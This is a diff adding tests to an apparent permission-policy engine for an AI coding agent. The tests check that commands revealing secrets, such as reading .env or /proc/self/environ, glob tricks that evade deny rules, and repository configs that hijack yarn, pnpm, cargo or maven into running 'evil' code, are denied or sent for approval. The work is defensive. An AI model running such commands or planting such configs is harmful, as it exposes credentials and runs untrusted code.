@@ -138,4 +138,69 @@ describe('policy:rules in a hostile repository', () => {
       await effect(`cat src/${name}`, { deny: [`read(${pattern})`, `bash(${pattern})`] });
     }
   });
+
+  it('asks where reading programs would show files that look like secrets', async () => {
+    writeFileSync(join(folder, '.env'), 'KEY=1\n');
+    mkdirSync(join(folder, 'copy'));
+    writeFileSync(join(folder, 'copy/.env'), 'KEY=2\n');
+    expect(await effect('rg KEY')).to.equal('allow');
+    for (const command of [
+      "rg KEY -g '*'",
+      "rg -g'.e*' KEY",
+      "rg -ig '.*' KEY",
+      "rg --glob='.e[n]v' KEY",
+      'diff . copy',
+      'ps e',
+      'ps auxeww',
+      'ps -eo pid,environ',
+      'jq -n --arg a b --arg c d env',
+      'git var -l',
+      'cat .e[n]v',
+      'cat /proc/self/environ',
+      'cat /proc/1/environ',
+    ])
+      expect(await effect(command), command).to.not.equal('allow');
+    for (const command of ['cat .e[n]v', 'cat .{env,x}', 'cat ./*/../.env', 'cat ~+/.env', 'cat /proc/1/environ', "rg KEY -g '.{env,x}'"])
+      expect(await effect(command, { allow: ['bash(cat *)'] }), command).to.not.equal('allow');
+    for (const command of ['ps aux', 'ps -ef', 'diff a.txt copy/b', 'cat [a].txt', "rg KEY -g '!x'", "rg KEY -g '*.ts'", 'git grep KEY'])
+      expect(await effect(command), command).to.equal('allow');
+    writeFileSync(join(folder, '.ignore'), '!.env\n');
+    expect(await effect('rg KEY'), 'an ignore file that takes .env back').to.equal('ask');
+    git('add', '-f', '.env');
+    expect(await effect('git grep KEY'), 'a secret that git knows').to.equal('ask');
+  });
+
+  it('holds to deny rules below a folder that is searched, whatever else is in it', async () => {
+    mkdirSync(join(folder, 'private'));
+    writeFileSync(join(folder, 'private/x'), 'x\n');
+    writeFileSync(join(folder, '.env'), 'KEY=1\n');
+    git('add', 'private');
+    for (const command of ['grep -r x .', 'git grep x', 'diff . private', 'curl "file://$PWD/private/x"'])
+      expect(await effect(command, { allow: ['bash'], deny: ['read(private/**)'] }), command).to.not.equal('allow');
+  });
+
+  const starts: [command: string, file: string, text: string][] = [
+    ['yarn --version', '.yarnrc.yml', 'yarnPath: ./evil.cjs\n'],
+    ['yarn list', '.yarnrc', 'yarn-path "./evil.js"\n'],
+    ['yarn why a', 'package.json', '{"packageManager":"yarn@https://evil.test/yarn.js"}\n'],
+    ['pnpm ls', '.pnpmfile.cjs', 'x\n'],
+    ['pnpm --version', '.npmrc', 'pnpmfile=./x.cjs\n'],
+    ['cargo --version', 'rust-toolchain.toml', '[toolchain]\npath = "./evil"\n'],
+    ['rustc --version', 'rust-toolchain', 'x\n'],
+    ['rustup show', 'rust-toolchain.toml', 'x\n'],
+    ['mvn --version', '.mvn/jvm.config', '-javaagent:evil.jar\n'],
+    ['dotnet --version', 'global.json', '{}\n'],
+    ['jest --version', 'node_modules/jest/package.json', '{}\n'],
+  ];
+  for (const [command, file, text] of starts)
+    it(`asks about ${command} where ${file} has it run something`, async () => {
+      expect(await effect(command)).to.equal('allow');
+      mkdirSync(dirname(join(folder, file)), { recursive: true });
+      writeFileSync(join(folder, file), text);
+      expect(await effect(command)).to.equal('ask');
+    });
+
+  it('asks about npm help, which opens what .npmrc names as browser', async () => {
+    expect(await effect('npm help install')).to.equal('ask');
+  });
 });
